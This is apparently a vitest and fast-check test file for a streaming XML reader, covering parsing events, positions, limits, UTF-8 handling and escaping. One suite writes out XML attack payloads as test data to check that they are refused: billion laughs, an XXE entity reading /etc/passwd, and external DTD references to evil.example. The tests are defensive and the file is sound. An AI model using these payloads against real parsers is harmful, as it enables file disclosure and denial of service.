import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { XmlParseError } from '../../templates/runtime/errors.js';
import {
  XmlReader,
  escapeAttribute,
  escapeText,
  isXmlText,
  type XmlEventHandler,
  type XmlReaderOptions,
} from '../../templates/runtime/xml-reader.js';

// ---------------------------------------------------------------------------------------------------------
// Helpers

type Event =
  | readonly ['open', string, Readonly<Record<string, string>> | null, string]
  | readonly ['text', string, string]
  | readonly ['close', string, string];

/** Records every event with `line:column@depth`. */
class Recorder implements XmlEventHandler {
  readonly events: Event[] = [];
  reader: XmlReader | undefined;
  private where(): string {
    const r = this.reader!;
    return `${r.line}:${r.column}@${r.depth}`;
  }
  open(name: string, attributes: Readonly<Record<string, string>> | null): void {
    this.events.push(['open', name, attributes === null ? null : { ...attributes }, this.where()]);
  }
  text(text: string): void {
    this.events.push(['text', text, this.where()]);
  }
  close(name: string): void {
    this.events.push(['close', name, this.where()]);
  }
}

function recorder(options?: XmlReaderOptions): { rec: Recorder; reader: XmlReader } {
  const rec = new Recorder();
  const reader = new XmlReader(rec, options);
  rec.reader = reader;
  return { rec, reader };
}

function parse(input: string | Uint8Array, options?: XmlReaderOptions): Event[] {
  const { rec, reader } = recorder(options);
  reader.parse(input);
  return rec.events;
}

function parseChunks(chunks: readonly (string | Uint8Array)[], options?: XmlReaderOptions): Event[] {
  const { rec, reader } = recorder(options);
  for (const chunk of chunks) reader.write(chunk);
  reader.close();
  return rec.events;
}

interface Failure {
  readonly code: string;
  readonly line: number;
  readonly column: number;
  readonly message: string;
  readonly events: Event[];
}

function failure(run: (reader: XmlReader) => void, options?: XmlReaderOptions): Failure {
  const { rec, reader } = recorder(options);
  try {
    run(reader);
  } catch (error) {
    if (!(error instanceof XmlParseError)) throw error;
    // The contract: the message names what and where, the issue mirrors it.
    expect(error.message).toBe(`${error.issues[0]!.message} (line ${error.line}, column ${error.column})`);
    expect(error.issues).toEqual([{ path: '', code: error.code, message: error.issues[0]!.message, line: error.line, column: error.column }]);
    return { code: error.code, line: error.line, column: error.column, message: error.issues[0]!.message, events: rec.events };
  }
  throw new Error('expected an XmlParseError');
}

function fail(input: string | Uint8Array, options?: XmlReaderOptions): Failure {
  return failure((r) => r.parse(input), options);
}

function failChunks(chunks: readonly (string | Uint8Array)[], options?: XmlReaderOptions): Failure {
  return failure((r) => {
    for (const chunk of chunks) r.write(chunk);
    r.close();
  }, options);
}

const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s);
const bytes = (...parts: (string | readonly number[])[]): Uint8Array =>
  Uint8Array.from(parts.flatMap((p) => (typeof p === 'string' ? [...utf8(p)] : [...p])));
const byteChunks = (b: Uint8Array): Uint8Array[] => Array.from(b, (x) => Uint8Array.of(x));

// ---------------------------------------------------------------------------------------------------------

describe('XmlReader events', () => {
  it('reports elements, attributes, text and positions', () => {
    const doc = '<?xml version="1.0" encoding="UTF-8"?>\n<r a="1" b:c="x &lt; y">\n  <b>t&amp;u</b>\n  <c/>\n</r>\n';
    expect(parse(doc)).toEqual([
      ['open', 'r', { a: '1', 'b:c': 'x < y' }, '2:1@1'],
      ['text', '\n  ', '2:25@1'],
      ['open', 'b', null, '3:3@2'],
      ['text', 't&u', '3:6@2'],
      ['close', 'b', '3:13@2'],
      ['text', '\n  ', '3:17@1'],
      ['open', 'c', null, '4:3@2'],
      ['close', 'c', '4:3@2'],
      ['text', '\n', '4:7@1'],
      ['close', 'r', '5:1@1'],
    ]);
  });

  it('passes attributes as a null-prototype object', () => {
    let seen: Readonly<Record<string, string>> | null = null;
    new XmlReader({ open: (_n, a) => { seen = a; }, text() {}, close() {} }).parse('<a __proto__="1" constructor="2"/>');
    expect(seen).not.toBeNull();
    expect(Object.getPrototypeOf(seen)).toBeNull();
    expect({ ...seen! }).toEqual({ ['__proto__']: '1', constructor: '2' });
  });

  it('resolves predefined entities and character references, in text and attributes', () => {
    expect(parse('<a v="&#65;&#x1F600;&quot;&apos;&#9;">&lt;&gt;&amp;&quot;&apos;&#65;&#x41;&#x1F600;&#128512;</a>')).toEqual([
      ['open', 'a', { v: "A😀\"'\t" }, '1:1@1'],
      ['text', "<>&\"'AA😀😀", '1:39@1'],
      ['close', 'a', '1:93@1'],
    ]);
  });

  it('includes CDATA sections, skips comments and processing instructions', () => {
    const doc = '<?xml version="1.0"?>\n<!-- before -->\n<?pi data?>\n<a><!-- in --><?p q?>t<![CDATA[<x>&amp;]]>u<![CDATA[]]></a>\n<!-- after -->\n<?after?>\n';
    expect(parse(doc)).toEqual([
      ['open', 'a', null, '4:1@1'],
      ['text', 't', '4:22@1'],
      ['text', '<x>&amp;', '4:23@1'],
      ['text', 'u', '4:43@1'],
      ['close', 'a', '4:56@1'],
    ]);
  });

  it('never reports whitespace outside the root element', () => {
    expect(parse(' \r\n\t<a> </a>\r\n \n')).toEqual([
      ['open', 'a', null, '2:2@1'],
      ['text', ' ', '2:5@1'],
      ['close', 'a', '2:6@1'],
    ]);
  });

  it('normalizes line ends in text and counts CR, LF and CR LF as one line end each', () => {
    expect(parse('<a>1\r\n2\r3\n4<b/></a>')).toEqual([
      ['open', 'a', null, '1:1@1'],
      ['text', '1\n2\n3\n4', '1:4@1'],
      ['open', 'b', null, '4:2@2'],
      ['close', 'b', '4:2@2'],
      ['close', 'a', '4:6@1'],
    ]);
  });

  it('counts columns in code points and does not count a byte order mark', () => {
    expect(parse('\uFEFF<a>😀é<b/></a>')[2]).toEqual(['open', 'b', null, '1:6@2']);
    expect(parse(bytes([0xef, 0xbb, 0xbf], '<a>😀é<b/></a>'))[2]).toEqual(['open', 'b', null, '1:6@2']);
  });

  it('parses XML 1.1 declarations with XML 1.0 rules', () => {
    expect(parse('<?xml version="1.1"?><a>\u0085</a>')[1]).toEqual(['text', '\u0085', '1:25@1']);
    expect(fail('<?xml version="1.1"?><a>&#1;</a>').code).toBe('not-well-formed');
  });

  it('can be reused after success and after failure', () => {
    const { rec, reader } = recorder();
    reader.parse('<a/>');
    expect(() => reader.parse('<a>')).toThrow(XmlParseError);
    rec.events.length = 0;
    reader.write('<b>');
    reader.write('x</b>');
    reader.close();
    expect(rec.events.map((e) => e[0])).toEqual(['open', 'text', 'close']);
    expect(() => reader.close()).toThrow(/no root element/);
  });

  it('is not re-entrant', () => {
    const reader: XmlReader = new XmlReader({ open: () => reader.parse('<b/>'), text() {}, close() {} });
    expect(() => reader.parse('<a/>')).toThrow(/inside a handler/);
    expect(parse('<a/>')).toHaveLength(2);
  });

  it('refuses mixing string and byte chunks as a usage error', () => {
    const { reader } = recorder();
    reader.write('<a>');
    expect(() => reader.write(utf8('</a>'))).toThrow(TypeError);
  });

  it('validates its options', () => {
    expect(() => new XmlReader(new Recorder(), { maxDepth: 0 })).toThrow(RangeError);
    expect(() => new XmlReader(new Recorder(), { maxBytes: Number.NaN })).toThrow(RangeError);
  });
});

describe('XmlReader refuses DOCTYPE', () => {
  const billionLaughs = [
    '<?xml version="1.0"?>',
    '<!DOCTYPE lolz [',
    ' <!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
    ']>',
    '<lolz>&lol9;</lolz>',
  ].join('\n');

  it.each([
    ['billion laughs', billionLaughs, 2, 1],
    ['external SYSTEM entity', '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<foo>&xxe;</foo>', 1, 1],
    ['external parameter entity', '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><foo/>', 1, 1],
    ['SYSTEM DTD', '<?xml version="1.0"?>\r\n<!DOCTYPE foo SYSTEM "http://evil.example/foo.dtd"><foo/>', 2, 1],
    ['PUBLIC DTD', '  <!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>', 1, 3],
    ['bare DOCTYPE', '<!DOCTYPE a><a/>', 1, 1],
    ['DOCTYPE at the very end', '<!DOCTYPE', 1, 1],
    ['DOCTYPE after a comment', '<!-- x --><!DOCTYPE a><a/>', 1, 11],
    ['DOCTYPE inside the root', '<a>\n <!DOCTYPE a></a>', 2, 2],
    ['DOCTYPE after the root', '<a/><!DOCTYPE a>', 1, 5],
  ])('%s', (_name, doc, line, column) => {
    const f = fail(doc);
    expect(f).toMatchObject({ code: 'doctype-forbidden', line, column });
    expect(f.message).toMatch(/DOCTYPE/);
    expect(fail(utf8(doc))).toMatchObject({ code: 'doctype-forbidden', line, column });
  });

  it('emits no event after the DOCTYPE', () => {
    expect(fail('<a><b/>\n<!DOCTYPE a [<!ENTITY x "y">]><c>&x;</c></a>').events.map((e) => e[0] + e[1])).toEqual(['opena', 'openb', 'closeb', 'text\n']);
  });

  it('refuses as soon as the chunk completing `<!DOCTYPE` arrives, before any of the DTD', () => {
    const { reader } = recorder();
    reader.write('<?xml version="1.0"?>\n<!DOC');
    let error: unknown;
    try {
      reader.write('TYPE');
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(XmlParseError);
    expect(error).toMatchObject({ code: 'doctype-forbidden', line: 2, column: 1 });
  });

  it('does not buffer a huge internal subset', () => {
    // If the DTD were buffered up to its end, this would report 'unexpected end' instead.
    const doc = `<!DOCTYPE a [${'<!ENTITY x "y">'.repeat(100_000)}`;
    expect(fail(doc)).toMatchObject({ code: 'doctype-forbidden', line: 1, column: 1 });
  });
});

describe('XmlReader entity references', () => {
  it('refuses unknown entities at the "&"', () => {
    expect(fail('<a>\n  x &foo; y</a>')).toMatchObject({ code: 'not-well-formed', line: 2, column: 5, message: expect.stringMatching(/unknown entity &foo;/) });
    expect(fail('<a b="&nbsp;"/>')).toMatchObject({ code: 'not-well-formed', line: 1, column: 7 });
    expect(fail('<a>&constructor;</a>')).toMatchObject({ code: 'not-well-formed', line: 1, column: 4 });
    expect(fail('<a>&__proto__;</a>')).toMatchObject({ code: 'not-well-formed', line: 1, column: 4 });
  });

  it.each(['&#0;', '&#x0;', '&#1;', '&#x1F;', '&#xD800;', '&#xDFFF;', '&#xFFFE;', '&#xFFFF;', '&#x110000;', '&#99999999999;', '&#;', '&#x;', '&#12a;', '&#X41;'])(
    'refuses the character reference %s',
    (ref) => {
      expect(fail(`<a>x${ref}</a>`)).toMatchObject({ code: 'not-well-formed', line: 1, column: 5 });
      expect(fail(`<a v="${ref}"/>`)).toMatchObject({ code: 'not-well-formed', line: 1, column: 7 });
    },
  );

  it('refuses empty and malformed entity references', () => {
    expect(fail('<a>x&;</a>')).toMatchObject({ code: 'not-well-formed', line: 1, column: 5 });
    expect(fail('<a>x&a b;</a>')).toMatchObject({ code: 'not-well-formed', line: 1, column: 5, message: 'malformed entity reference &a b;' });
    expect(fail('<a>x&a&amp;</a>')).toMatchObject({ code: 'not-well-formed', line: 1, column: 5, message: 'malformed entity reference &a&amp;' });
    expect(fail('<a>x & y</a>')).toMatchObject({ code: 'not-well-formed' });
  });

  it('reports an entity reference split across chunks at its "&"', () => {
    for (const chunks of [['<a>\n x&fo', 'o;</a>'], ['<a>\n x&', 'foo;</a>'], ['<a>\n x', '&foo', ';</a>'], '<a>\n x&foo;</a>'.split('')]) {
      expect(failChunks(chunks)).toMatchObject({ code: 'not-well-formed', line: 2, column: 3, message: expect.stringMatching(/^unknown entity &foo; /) });
    }
  });
});

describe('XmlReader limits', () => {
  const nested = (n: number): string => '<a>'.repeat(n) + 'x' + '</a>'.repeat(n);

  it('accepts 256 levels and refuses 300 with too-deep at the offending tag', () => {
    expect(parse(nested(256)).length).toBe(2 * 256 + 1);
    const f = fail(nested(300));
    expect(f).toMatchObject({ code: 'too-deep', line: 1, column: 256 * 3 + 1 });
    expect(f.message).toMatch(/maxDepth \(256\)/);
    expect(f.events.length).toBe(256);
  });

  it('refuses when the tag opens, before its content', () => {
    const f = fail('<a>\n <b>\n  <c>text</c></b></a>', { maxDepth: 2 });
    expect(f).toMatchObject({ code: 'too-deep', line: 3, column: 3 });
    expect(f.events.map((e) => e[0] + e[1])).toEqual(['opena', 'text\n ', 'openb', 'text\n  ']);
    const { reader } = recorder({ maxDepth: 2 });
    reader.write('<a><b>');
    expect(() => reader.write('<c>')).toThrow(expect.objectContaining({ code: 'too-deep', line: 1, column: 7 }));
  });

  it('refuses one-shot input over maxBytes without parsing it', () => {
    expect(fail('<a>0123456789</a>', { maxBytes: 16 })).toMatchObject({ code: 'too-large', line: 1, column: 1, events: [] });
    expect(parse('<a>012345678</a>', { maxBytes: 16 }).length).toBe(3);
    // Bytes count UTF-8 bytes; strings count UTF-16 code units.
    expect(fail(utf8('<a>ééééé</a>'), { maxBytes: 16 })).toMatchObject({ code: 'too-large', events: [] });
    expect(parse('<a>ééééé</a>', { maxBytes: 16 }).length).toBe(3);
    expect(fail(`<a>${'x'.repeat(64 * 1024 * 1024)}</a>`)).toMatchObject({ code: 'too-large', events: [] });
  });

  it('refuses chunked input as soon as the running total passes maxBytes', () => {
    const f = failChunks(['<a>', '1234', '5678', '</a>'], { maxBytes: 10 });
    expect(f).toMatchObject({ code: 'too-large', line: 1, column: 8 });
    expect(f.events).toEqual([['open', 'a', null, '1:1@1']]);
    expect(failChunks([utf8('<a>'), utf8('ééé'), utf8('</a>')], { maxBytes: 8 })).toMatchObject({ code: 'too-large' });
    expect(parseChunks(['<a>', '123', '</a>'], { maxBytes: 10 }).length).toBe(3);
  });
});

describe('XmlReader byte input', () => {
  // `<a>\n€ ` then the bad bytes: line 2, column 3 (columns count characters, not bytes).
  it.each([
    ['bad continuation', [0xc3, 0x28]],
    ['missing continuation before ASCII', [0xe2, 0x82, 0x41]],
    ['overlong 2-byte', [0xc0, 0xaf]],
    ['overlong 2-byte C1', [0xc1, 0xbf]],
    ['overlong 3-byte', [0xe0, 0x80, 0xaf]],
    ['overlong 4-byte', [0xf0, 0x80, 0x80, 0xaf]],
    ['surrogate D800', [0xed, 0xa0, 0x80]],
    ['surrogate DFFF', [0xed, 0xbf, 0xbf]],
    ['above U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
    ['lone continuation', [0x80]],
    ['byte FF', [0xff]],
    ['5-byte form', [0xf8, 0x88, 0x80, 0x80, 0x80]],
  ])('refuses %s with invalid-utf8 at the bad byte', (_name, bad) => {
    const input = bytes('<a>\n€ ', bad, '</a>');
    const expected = { code: 'invalid-utf8', line: 2, column: 3 };
    expect(fail(input)).toMatchObject(expected);
    expect(fail(input).message).toMatch(/invalid UTF-8 at byte 8: [0-9A-F]{2}/);
    expect(failChunks(byteChunks(input))).toMatchObject(expected);
    expect(failChunks([input.subarray(0, 9), input.subarray(9)])).toMatchObject(expected);
  });

  it('refuses a sequence truncated by the end of input', () => {
    const input = bytes('<a>\n€ ', [0xe2, 0x82]);
    const expected = { code: 'invalid-utf8', line: 2, column: 3, message: 'truncated UTF-8 sequence at the end of input (byte 8: E2 82)' };
    expect(fail(input)).toMatchObject(expected);
    expect(failChunks(byteChunks(input))).toMatchObject(expected);
    expect(failChunks([input])).toMatchObject(expected);
  });

  it('reports the line of a bad byte after CR line ends', () => {
    const input = bytes('<a>\r\n\r', [0xff]);
    expect(fail(input)).toMatchObject({ code: 'invalid-utf8', line: 3, column: 1 });
    expect(failChunks(byteChunks(input))).toMatchObject({ code: 'invalid-utf8', line: 3, column: 1 });
  });

  it('reports an earlier well-formedness error before a later bad byte', () => {
    expect(fail(bytes('<a><</a>', [0xff]))).toMatchObject({ code: 'not-well-formed', line: 1, column: 5 });
  });

  it('skips a UTF-8 byte order mark', () => {
    expect(parse(bytes([0xef, 0xbb, 0xbf], '<a>x</a>'))).toEqual(parse('<a>x</a>'));
    expect(parseChunks(byteChunks(bytes([0xef, 0xbb, 0xbf], '<a>x</a>')))).toEqual(parse('<a>x</a>'));
  });

  it.each([
    ['UTF-16LE byte order mark', bytes([0xff, 0xfe], [0x3c, 0, 0x61, 0, 0x2f, 0, 0x3e, 0])],
    ['UTF-16BE byte order mark', bytes([0xfe, 0xff], [0, 0x3c, 0, 0x61, 0, 0x2f, 0, 0x3e])],
    ['UTF-16LE without byte order mark', bytes([0x3c, 0, 0x61, 0, 0x2f, 0, 0x3e, 0])],
    ['UTF-32LE byte order mark', bytes([0xff, 0xfe, 0, 0], [0x3c, 0, 0, 0])],
  ])('refuses %s as an unsupported encoding', (_name, input) => {
    const expected = { code: 'not-well-formed', line: 1, column: 1, message: expect.stringMatching(/unsupported encoding.*UTF-16/) };
    expect(fail(input)).toMatchObject(expected);
    expect(failChunks(byteChunks(input))).toMatchObject(expected);
  });

  it('refuses an XML declaration naming another encoding, for byte input only', () => {
    const latin1 = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<a>caf\u00e9</a>';
    const expected = { code: 'not-well-formed', line: 1, column: 1, message: expect.stringMatching(/unsupported encoding "ISO-8859-1"/) };
    expect(fail(utf8(latin1))).toMatchObject(expected);
    // Latin-1 bytes: the declaration is reported, not the byte that is invalid UTF-8.
    expect(fail(bytes('<?xml version="1.0" encoding="ISO-8859-1"?>\n<a>caf', [0xe9], '</a>'))).toMatchObject(expected);
    expect(failChunks([bytes('<?xml version="1.0" encoding="windows-1252"?><a>', [0xe9], '</a>')])).toMatchObject({ code: 'not-well-formed' });
    expect(parse(latin1).length).toBe(3); // a string is already decoded
    for (const name of ['UTF-8', 'utf-8', 'US-ASCII', 'us-ascii']) {
      expect(parse(utf8(`<?xml version="1.0" encoding="${name}"?><a/>`)).length).toBe(2);
    }
  });
});

describe('XmlReader illegal characters', () => {
  it.each([
    ['NUL in text', '<a>x\u0000y</a>', 1, 5],
    ['NUL before the root', '\u0000<a/>', 1, 1],
    ['NUL in a tag name', '<a\u0000/>', 1, 3],
    ['NUL in an attribute', '<a b="\u0000"/>', 1, 7],
    ['NUL in a comment', '<a><!--\u0000--></a>', 1, 8],
    ['NUL in CDATA', '<a>\n<![CDATA[\u0000]]></a>', 2, 10],
    ['U+0001', '<a>\u0001</a>', 1, 4],
    ['U+001F', '<a>\u001f</a>', 1, 4],
    ['U+FFFE', '<a>\ufffe</a>', 1, 4],
    ['U+FFFF', '<a>\uffff</a>', 1, 4],
    ['lone high surrogate', '<a>\ud800x</a>', 1, 4],
    ['lone high surrogate at the end', '<a>x</a>\ud800', 1, 9],
    ['lone low surrogate', '<a>\udc00</a>', 1, 4],
    ['reversed surrogate pair', '<a>\ude00\ud83d</a>', 1, 4],
    ['lone surrogate in an attribute', '<a b="\ud800"/>', 1, 7],
  ])('refuses %s', (_name, doc, line, column) => {
    const expected = { code: 'not-well-formed', line, column };
    expect(fail(doc)).toMatchObject(expected);
    expect(failChunks(Array.from(doc))).toMatchObject(expected);
    expect(failChunks(doc.split(''))).toMatchObject(expected); // splits surrogate pairs too
    if (isXmlText(doc.replace(/\u0000/g, ''))) expect(fail(utf8(doc))).toMatchObject(expected);
  });

  it('names the character', () => {
    expect(fail('<a>\u0000</a>').message).toBe('character U+0000 is not allowed in XML');
    expect(fail('<a>\ud800</a>').message).toBe('lone surrogate U+D800 is not allowed in XML');
    expect(fail('<a b="<"/>').message).toBe("'<' is not allowed in an attribute value");
  });
});

describe('XmlReader well-formedness', () => {
  it.each([
    ['unclosed element', '<packet>\n<backup-manager>\n<status>ok</status>\n', 4, 1, 'unclosed element <backup-manager> opened at line 2'],
    ['input ending inside a tag', '<a>\n<b x="1', 2, 8, 'input ends inside markup; unclosed element <a> opened at line 1'],
    ['input ending inside a comment', '<a/><!-- x', 1, 11, 'input ends inside markup'],
    ['mismatched end tag', '<a>\n  <b></c>\n</a>', 2, 6, 'end tag </c> does not match start tag <b> opened at line 2'],
    ['end tag without start tag', '</a>', 1, 1, 'end tag </a> has no matching start tag'],
    ['end tag after the root', '<a/></a>', 1, 5, 'end tag </a> has no matching start tag'],
    ['text after the root', '<a/>\nx', 2, 1, 'text after the root element'],
    ['CDATA after the root', '<a/><![CDATA[x]]>', 1, 13, 'text after the root element'],
    ['text before the root', 'x<a/>', 1, 2, 'text before the root element'],
    ['two roots', '<a/>\n<b/>', 2, 1, 'second root element <b>: a document has exactly one root element'],
    ['empty document', '', 1, 1, 'no root element (empty document)'],
    ['whitespace only', ' \n ', 2, 2, 'no root element (empty document)'],
    ['comment only', '<!-- x -->', 1, 11, 'no root element (empty document)'],
    ['duplicate attribute', '<a>\n <b x="1" x="2"/></a>', 2, 2, 'duplicate attribute x in <b>'],
    ["']]>' in text", '<a>]]></a>', 1, 6, "']]>' is not allowed in character data"],
    ['unquoted attribute', '<a x=1/>', 1, 6, 'unquoted attribute value'],
    ['XML declaration not at the start', ' <?xml version="1.0"?><a/>', 1, 7, 'an XML declaration must be at the start of the document'],
  ])('refuses %s', (_name, doc, line, column, message) => {
    expect(fail(doc)).toEqual(expect.objectContaining({ code: 'not-well-formed', line, column, message }));
  });

  it('never calls close() for a mismatched end tag', () => {
    expect(fail('<a><b></a>').events.map((e) => e[0] + e[1])).toEqual(['opena', 'openb']);
  });

  it('quotes at most 64 characters of input in messages', () => {
    const long = 'n'.repeat(10_000);
    const runs = /n{65}/;
    for (const doc of [
      `<${long}>`,
      `<a></${long}>`,
      `<${long}></${long}x>`,
      `<a>&${long};</a>`,
      `<a ${long}="1" ${long}="2"/>`,
      `<a/><${long}/>`,
      `<?xml version="1.0" encoding="${long}"?><a/>`,
    ]) {
      const input = doc.includes('encoding') ? utf8(doc) : doc;
      const f = fail(input);
      expect(f.message.length).toBeLessThan(200);
      expect(f.message).not.toMatch(runs);
    }
    expect(fail(`<${long}>`).message).toBe(`unclosed element <${'n'.repeat(64)}...> opened at line 1`);
  });
});

describe('XmlReader handler errors', () => {
  it.each(['open', 'text', 'close'] as const)('propagates an error thrown by %s() unchanged and stops', (which) => {
    const boom = new Error('boom');
    const seen: string[] = [];
    const handler: XmlEventHandler = {
      open: (n) => { seen.push(`open ${n}`); if (which === 'open' && n === 'b') throw boom; },
      text: (t) => { seen.push(`text ${t}`); if (which === 'text') throw boom; },
      close: (n) => { seen.push(`close ${n}`); if (which === 'close') throw boom; },
    };
    const reader = new XmlReader(handler);
    expect(() => reader.parse('<a><b>t</b><c/></a>')).toThrow(boom);
    expect(seen.at(-1)).toBe({ open: 'open b', text: 'text t', close: 'close b' }[which]);
    seen.length = 0;
    expect(() => reader.write(utf8('<a><b>t</b>'))).toThrow(boom);
  });

  it('propagates non-Error values and XmlParseErrors thrown by the handler as they are', () => {
    const own = new XmlParseError('invalid-value', 'mine', 9, 9);
    for (const thrown of ['a string', own]) {
      const reader = new XmlReader({ open() { throw thrown; }, text() {}, close() {} });
      let caught: unknown;
      try {
        reader.parse('<a/>');
      } catch (e) {
        caught = e;
      }
      expect(caught).toBe(thrown);
    }
  });
});

describe('XmlReader chunked input', () => {
  const doc = '<?xml version="1.0" encoding="UTF-8"?>\r\n<r a="é€😀&amp;x">é€😀 &amp;\r\n<![CDATA[😀]]><x/>ü</r>\r\n';
  const expected = parse(doc);

  it('gives one-shot events for strings and bytes', () => {
    expect(expected).toEqual([
      ['open', 'r', { a: 'é€😀&x' }, '2:1@1'],
      ['text', 'é€😀 &\n', '2:18@1'],
      ['text', '😀', '3:1@1'],
      ['open', 'x', null, '3:14@2'],
      ['close', 'x', '3:14@2'],
      ['text', 'ü', '3:18@1'],
      ['close', 'r', '3:19@1'],
    ]);
    expect(parse(utf8(doc))).toEqual(expected);
  });

  it('gives the same events for every split of the bytes into two and three chunks', () => {
    const b = utf8(doc);
    for (let i = 0; i <= b.length; i++) {
      expect(parseChunks([b.subarray(0, i), b.subarray(i)])).toEqual(expected);
    }
    // Three chunks around every byte of every multi-byte character.
    for (let i = 0; i < b.length; i++) {
      if (b[i]! < 0x80) continue;
      for (let j = i + 1; j <= Math.min(b.length, i + 4); j++) {
        expect(parseChunks([b.subarray(0, i), b.subarray(i, j), b.subarray(j)])).toEqual(expected);
      }
    }
    expect(parseChunks(byteChunks(b))).toEqual(expected);
  });

  it('gives the same events for every split of the string, including inside surrogate pairs and CR LF', () => {
    for (let i = 0; i <= doc.length; i++) {
      expect(parseChunks([doc.slice(0, i), doc.slice(i)])).toEqual(expected);
    }
    expect(parseChunks(doc.split(''))).toEqual(expected);
  });

  it('ignores empty chunks', () => {
    expect(parseChunks(['', '<a>', '', 'x</a>', ''])).toEqual(parse('<a>x</a>'));
    expect(parseChunks([new Uint8Array(0), utf8('<a>x</a>'), new Uint8Array(0)])).toEqual(parse('<a>x</a>'));
  });
});

describe('escapeText, escapeAttribute, isXmlText', () => {
  it.each([
    ['', ''],
    ['plain text', 'plain text'],
    ['a&b', 'a&amp;b'],
    ['<tag>', '&lt;tag&gt;'],
    [']]>', ']]&gt;'],
    ['\r\n', '&#13;\n'],
    ['"\'\t\n', '"\'\t\n'],
    ['&&', '&amp;&amp;'],
    ['😀&é', '😀&amp;é'],
  ])('escapeText(%j) = %j', (input, output) => {
    expect(escapeText(input)).toBe(output);
  });

  it.each([
    ['', ''],
    ['plain', 'plain'],
    ['a"b', 'a&quot;b'],
    ["it's", "it's"],
    ['&<>', '&amp;&lt;&gt;'],
    ['\t\n\r', '&#9;&#10;&#13;'],
    ['a b\r\nc', 'a b&#13;&#10;c'],
  ])('escapeAttribute(%j) = %j', (input, output) => {
    expect(escapeAttribute(input)).toBe(output);
  });

  it('returns the same string when nothing needs escaping', () => {
    const s = 'x'.repeat(1000);
    expect(escapeText(s)).toBe(s);
    expect(escapeAttribute(s)).toBe(s);
  });

  it.each([
    ['', true],
    ['abc', true],
    ['\t\n\r', true],
    ['\u0000', false],
    ['\u0001', false],
    ['\u000b', false],
    ['\u000c', false],
    ['\u001f', false],
    [' ', true],
    ['\u007f', true],
    ['\u0085', true],
    ['\ud7ff', true],
    ['\ud800', false],
    ['a\ud800', false],
    ['\ud800a', false],
    ['\udc00', false],
    ['\ud83d\ude00', true],
    ['\ude00\ud83d', false],
    ['\ue000', true],
    ['\ufffd', true],
    ['\ufffe', false],
    ['\uffff', false],
    ['\udbff\udfff', true],
  ])('isXmlText(%j) = %s', (input, output) => {
    expect(isXmlText(input)).toBe(output);
  });
});

// ---------------------------------------------------------------------------------------------------------
// Properties

const anyCodeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
const interesting = fc.constantFrom(
  '&', '<', '>', '"', "'", '\t', '\n', '\r', '\r\n', ' ', ']]>', ']', 'a', 'é', '€', '😀', '\u0085', '\u2028',
  '\ufeff', '\ufffd', '\u0000', '\u0001', '\ud800', '\udc00', '\ufffe', '&amp;', '&#13;',
);
const textLike = fc.string({ unit: fc.oneof(interesting, anyCodeUnit, fc.string({ unit: 'binary', maxLength: 1 })), maxLength: 40 });

describe('XmlReader properties', () => {
  it('escaped text and attribute values read back exactly', () => {
    fc.assert(
      fc.property(textLike.filter(isXmlText), (s) => {
        let attr: string | undefined;
        let text = '';
        const reader = new XmlReader({
          open: (_n, a) => { attr = a?.x; },
          text: (t) => { text += t; },
          close() {},
        });
        reader.parse(`<a x="${escapeAttribute(s)}">${escapeText(s)}</a>`);
        expect(attr).toBe(s);
        expect(text).toBe(s);
      }),
      { numRuns: 2000 },
    );
  });

  it('isXmlText agrees with the reader', () => {
    fc.assert(
      fc.property(textLike, (s) => {
        let ok = true;
        try {
          new XmlReader({ open() {}, text() {}, close() {} }).parse(`<a>${escapeText(s)}</a>`);
        } catch (e) {
          if (!(e instanceof XmlParseError)) throw e;
          ok = false;
        }
        expect(ok).toBe(isXmlText(s));
      }),
      { numRuns: 2000 },
    );
  });

  const token = fc.constantFrom(
    '<', '>', '</', '/>', 'a', 'b', 'a:b', ' ', '=', '"', "'", '&', ';', '#', 'x', '1', 'F', '&amp;', '&#65;', '&#0;',
    '&#x1F600;', '&foo;', '<!--', '-->', '--', '<![CDATA[', ']]>', '<?', '?>', '<?xml version="1.0"?>',
    '<?xml version="1.0" encoding="latin1"?>', '<!DOCTYPE', '<!', '[', ']', '\r', '\n', '\t', '\u0000', '\ud800',
    '\udc00', '😀', 'é', '\ufeff', '\ufffe', '<a>', '</a>', '<b x="1">', '</b>', '<c/>',
  );
  const xmlish = fc.array(token, { maxLength: 30 }).map((t) => t.join(''));
  const input = fc.oneof(
    xmlish,
    fc.string({ unit: anyCodeUnit, maxLength: 30 }),
    xmlish.map((s) => new TextEncoder().encode(s)),
    fc.tuple(xmlish, fc.uint8Array({ maxLength: 4 }), fc.nat()).map(([s, junk, at]) => {
      const b = new TextEncoder().encode(s);
      const i = b.length === 0 ? 0 : at % (b.length + 1);
      return Uint8Array.from([...b.subarray(0, i), ...junk, ...b.subarray(i)]);
    }),
    fc.uint8Array({ maxLength: 30 }),
  );

  it('either parses or throws XmlParseError, whole or in chunks', () => {
    const handler: XmlEventHandler = { open() {}, text() {}, close() {} };
    fc.assert(
      fc.property(input, fc.array(fc.nat(), { maxLength: 4 }), fc.integer({ min: 1, max: 8 }), (data, cuts, maxDepth) => {
        const check = (run: () => void): void => {
          try {
            run();
          } catch (e) {
            if (!(e instanceof XmlParseError)) throw e;
            expect(e.line).toBeGreaterThanOrEqual(1);
            expect(e.column).toBeGreaterThanOrEqual(1);
          }
        };
        const reader = new XmlReader(handler, { maxDepth, maxBytes: 40 });
        check(() => reader.parse(data));
        const points = [...new Set(cuts.map((c) => c % (data.length + 1)))].sort((a, b) => a - b);
        const chunks = [0, ...points].map((p, k, all) => data.slice(p, all[k + 1] ?? data.length));
        check(() => {
          for (const chunk of chunks) reader.write(chunk);
          reader.close();
        });
      }),
      { numRuns: 5000 },
    );
  });
});
